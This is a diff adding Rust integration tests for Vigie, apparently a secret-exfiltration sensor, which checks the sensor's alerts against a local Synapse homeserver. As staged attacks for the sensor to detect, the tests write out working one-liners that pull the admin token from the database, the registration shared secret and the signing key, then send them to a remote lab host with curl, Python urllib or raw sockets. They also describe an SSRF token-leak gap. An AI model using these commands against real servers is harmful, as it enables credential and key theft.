@@ -1,0 +1,264 @@
+//! Vigie protecting a real Matrix homeserver: Synapse installed by pip, generated fresh, on loopback,
+//! watched with `--profile matrix-synapse --synapse-config homeserver.yaml --synapse-config conf.d`.
+//!
+//! The scenarios share one homeserver and one sensor (see `integration_tests::synapse`) and
+//! take turns. Each asserts alerts, or their absence behind a barrier: a later alert of a
+//! control actor proves the sensor had handled everything before it, never a sleep.
+//!
+//! Known gap (scenario 6): the homeserver is trusted to read its secrets, so if it is made to
+//! send one out (a bug, an SSRF, a malicious module) nothing is seen: telling a secret's value
+//! in traffic needs content matching, which Vigie does not do.
+
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+use anyhow::{ensure, Context, Result};
+use integration_tests::synapse::{self, SharedLab, SynapseLab, INDEX_TITLE, KNOWN_GAP_TITLE};
+use integration_tests::{actor_exe, alert, ALERT_TIMEOUT};
+use serde_json::Value;
+
+fn shared() -> Result<SharedLab> {
+    SynapseLab::shared(actor_exe!())
+}
+
+/// Reads the newest admin access token from the database (Synapse's schema).
+const ADMIN_TOKEN_SQL: &str = "SELECT t.token FROM access_tokens t JOIN users u ON u.name = t.user_id \
+                               WHERE u.admin = 1 ORDER BY t.id DESC LIMIT 1";
+
+/// `python -c` that takes the admin token from `argv[1]` (the database) and POSTs it to
+/// `argv[2]`, printing nothing.
+const STEAL_TOKEN_PY: &str = "import sqlite3, sys, urllib.request\n\
+    db = sqlite3.connect(sys.argv[1])\n\
+    (token,) = db.execute(sys.argv[3]).fetchone()\n\
+    urllib.request.urlopen(urllib.request.Request(sys.argv[2], data=token.encode()), timeout=10)\n";
+
+/// `python -c` of a local admin script: the token from the database, then the admin API on
+/// loopback (`argv[2]`); exits non-zero unless the homeserver answers 200.
+const LOCAL_ADMIN_PY: &str = "import sqlite3, sys, urllib.request\n\
+    db = sqlite3.connect(sys.argv[1])\n\
+    (token,) = db.execute(sys.argv[3]).fetchone()\n\
+    request = urllib.request.Request(sys.argv[2], headers={'Authorization': 'Bearer ' + token})\n\
+    sys.exit(0 if urllib.request.urlopen(request, timeout=10).status == 200 else 1)\n";
+
+/// `python -c` reading `argv[1]` and sending it to `argv[2]:argv[3]` over TCP.
+const READ_AND_SEND_PY: &str = "import socket, sys\n\
+    data = open(sys.argv[1], 'rb').read()\n\
+    socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=10).sendall(data)\n";
+
+/// Runs `program args` to completion; returns its pid. Its output is discarded unread: it may
+/// carry a secret.
+fn run(program: impl AsRef<std::ffi::OsStr>, args: &[&str]) -> Result<u32> {
+    let program = program.as_ref();
+    let mut child = Command::new(program)
+        .args(args)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .with_context(|| format!("start {}", program.to_string_lossy()))?;
+    let pid = child.id();
+    let status = child.wait()?;
+    ensure!(status.success(), "{} {:?} failed: {status}", program.to_string_lossy(), args.first());
+    Ok(pid)
+}
+
+fn path(path: &Path) -> &str {
+    path.to_str().unwrap_or_default()
+}
+
+fn executable_ends_with(line: &Value, pointer: &str, name: &str) -> bool {
+    synapse::text(line, pointer).is_some_and(|exe| exe.ends_with(&format!("/{name}")))
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_1_normal_life_of_the_homeserver_is_quiet() -> Result<()> {
+    let world = shared()?;
+    let start = world.sensor.lines().len();
+    let synapse_pid = world.homeserver.pid();
+
+    // Start-up (seen whole: Vigie started first) and the admin's registration.
+    let startup = world.alerts_in(&world.sensor.lines()[..world.startup_lines]);
+    ensure!(startup.is_empty(), "alerts while the homeserver started: {startup:#?}");
+    // Not for want of watching: register_new_matrix_user read homeserver.yaml (it is no
+    // homeserver), it only talked to loopback.
+    world.sensor.expect(synapse::is_secret_read(world.register_pid, &world.files.config), ALERT_TIMEOUT)?;
+
+    // Logins, rooms, messages, and outbound fetches of a namespace host's pages.
+    let admin = world.login_admin()?;
+    let room = admin.create_room("vigie")?;
+    for (txn, text) in ["hello", "a preview follows"].iter().enumerate() {
+        admin.send_text(&room, &format!("t{txn}"), text)?;
+    }
+    let title = admin.preview_title(&world.site.url(""))?;
+    ensure!(title == INDEX_TITLE, "the preview shows {title:?}: the homeserver did not fetch the page");
+    world.admin.send_text(&room, "t9", &world.site.url(""))?;
+    world.lab.barrier(&world.sensor)?;
+
+    let lines = world.sensor.lines();
+    let alerts = world.alerts_in(&lines[start..]);
+    ensure!(alerts.is_empty(), "alerts during normal operation: {alerts:#?}");
+    // Recognised as the homeserver: its reads of its own secrets were not even reported.
+    let about_synapse: Vec<&Value> = lines.iter().filter(|l| synapse::involves(l, synapse_pid)).collect();
+    ensure!(about_synapse.is_empty(), "lines about the homeserver (pid {synapse_pid}): {about_synapse:#?}");
+    Ok(())
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_2_admin_token_theft_from_the_database_is_an_alert() -> Result<()> {
+    let world = shared()?;
+    let dest = world.lab.remote().tcp_v4();
+    let url = format!("http://{dest}/");
+    let database = &world.files.database;
+
+    let pid = run(world.venv.python(), &["-c", STEAL_TOKEN_PY, path(database), &url, ADMIN_TOKEN_SQL])?;
+
+    let found = world.sensor.expect(alert::is_exfiltration_by(pid), ALERT_TIMEOUT)?;
+    ensure!(alert::file_path(&found) == database.to_str(), "names the database: {found:#}");
+    ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
+    ensure!(synapse::pid_at(&found, "/vigie/origin/pid") == Some(pid), "the script read it: {found:#}");
+    Ok(())
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_2_admin_token_through_sqlite3_and_curl_is_an_alert() -> Result<()> {
+    let world = shared()?;
+    let dest = world.lab.remote().tcp_v4();
+    let database = path(&world.files.database);
+    let curl = format!("curl -s -o /dev/null --data-binary @- http://{dest}/");
+    let script = format!("sqlite3 -readonly '{database}' '{ADMIN_TOKEN_SQL}' | {curl}");
+
+    let shell = run("sh", &["-c", &script])?;
+
+    let found = world.sensor.expect(
+        |line| {
+            alert::is_exfiltration(line)
+                && alert::ancestry_pids(line).contains(&shell)
+                && executable_ends_with(line, "/process/executable", "curl")
+        },
+        ALERT_TIMEOUT,
+    )?;
+    ensure!(executable_ends_with(&found, "/vigie/origin/executable", "sqlite3"), "from sqlite3: {found:#}");
+    ensure!(alert::file_path(&found) == Some(database), "names the database: {found:#}");
+    ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
+    Ok(())
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_3_shared_secret_through_grep_and_curl_is_an_alert() -> Result<()> {
+    let world = shared()?;
+    let dest = world.lab.remote().tcp_v4();
+    let config = path(&world.files.config);
+    let script =
+        format!("grep registration_shared_secret '{config}' | curl -s -o /dev/null -d @- http://{dest}/");
+
+    let shell = run("sh", &["-c", &script])?;
+
+    let found = world.sensor.expect(
+        |line| {
+            alert::is_exfiltration(line)
+                && alert::ancestry_pids(line).contains(&shell)
+                && executable_ends_with(line, "/process/executable", "curl")
+        },
+        ALERT_TIMEOUT,
+    )?;
+    ensure!(executable_ends_with(&found, "/vigie/origin/executable", "grep"), "grep read it: {found:#}");
+    ensure!(alert::file_path(&found) == Some(config), "names homeserver.yaml: {found:#}");
+    ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
+    Ok(())
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_4_signing_key_copied_then_sent_by_another_process_is_an_alert() -> Result<()> {
+    let world = shared()?;
+    let dest = world.lab.remote().tcp_v4();
+    let copy = world.lab.dir().join("k");
+    let key = path(&world.files.signing_key);
+
+    run("cp", &[key, path(&copy)])?;
+    let sender = run(
+        "curl",
+        &["-s", "-o", "/dev/null", "--data-binary", &format!("@{}", path(&copy)), &format!("http://{dest}/")],
+    )?;
+
+    let found = world.sensor.expect(alert::is_exfiltration_by(sender), ALERT_TIMEOUT)?;
+    ensure!(alert::file_path(&found) == Some(key), "names the signing key: {found:#}");
+    ensure!(synapse::text(&found, "/vigie/via/kind") == Some("file"), "through the copy: {found:#}");
+    ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
+    Ok(())
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_5_a_stolen_token_used_on_loopback_is_not_exfiltration() -> Result<()> {
+    let world = shared()?;
+    let api = format!("http://{}/_synapse/admin/v2/users?limit=10", world.files.addr());
+    let database = &world.files.database;
+
+    let pid = run(world.venv.python(), &["-c", LOCAL_ADMIN_PY, path(database), &api, ADMIN_TOKEN_SQL])?;
+
+    // It did read the database (so the quiet below means something), then only used loopback.
+    world.sensor.expect(synapse::is_secret_read(pid, database), ALERT_TIMEOUT)?;
+    world.lab.assert_no_alert_for(&world.sensor, pid)
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_6_known_gap_the_homeserver_itself_leaking_a_secret_is_not_seen() -> Result<()> {
+    let world = shared()?;
+    let synapse_pid = world.homeserver.pid();
+    let start = world.sensor.lines().len();
+    // The secret the homeserver is made to send: a fresh admin access token, in the URL it
+    // fetches (what a server-side request forgery would do). Never printed.
+    let token = world.login_admin()?.access_token().to_owned();
+
+    let title = world.admin.preview_title(&world.site.url(&format!("known-gap.html?t={token}")))?;
+
+    ensure!(title == KNOWN_GAP_TITLE, "the homeserver did not fetch the page");
+    world.lab.barrier(&world.sensor)?;
+    let about_synapse: Vec<Value> =
+        world.sensor.lines()[start..].iter().filter(|l| synapse::involves(l, synapse_pid)).cloned().collect();
+    // The gap, asserted so that closing it (content matching) shows up here: turn this around.
+    ensure!(
+        about_synapse.is_empty(),
+        "the gap is closed? update the README and this test: {about_synapse:#?}"
+    );
+    Ok(())
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_python_c_with_the_homeservers_interpreter_is_not_trusted() -> Result<()> {
+    let world = shared()?;
+    let dest = world.lab.remote().tcp_v4();
+    let config = &world.files.config;
+    let (host, port) = (dest.ip().to_string(), dest.port().to_string());
+
+    let pid = run(world.venv.python(), &["-c", READ_AND_SEND_PY, path(config), &host, &port])?;
+
+    let found = world.sensor.expect(alert::is_exfiltration_by(pid), ALERT_TIMEOUT)?;
+    ensure!(alert::file_path(&found) == config.to_str(), "names homeserver.yaml: {found:#}");
+    Ok(())
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_every_file_its_config_points_at_is_watched() -> Result<()> {
+    let world = shared()?;
+    let files = &world.files;
+    let wal = files.database.with_extension("db-wal");
+    let watched =
+        [&files.config, &files.overrides, &files.signing_key, &files.database, &wal, &files.appservice];
+    let actor = watched.iter().fold(world.lab.actor(), integration_tests::Actor::read);
+
+    let run = actor.run()?;
+
+    for file in watched {
+        world.sensor.expect(synapse::is_secret_read(run.pid, file), ALERT_TIMEOUT)?;
+    }
+    Ok(())
+}
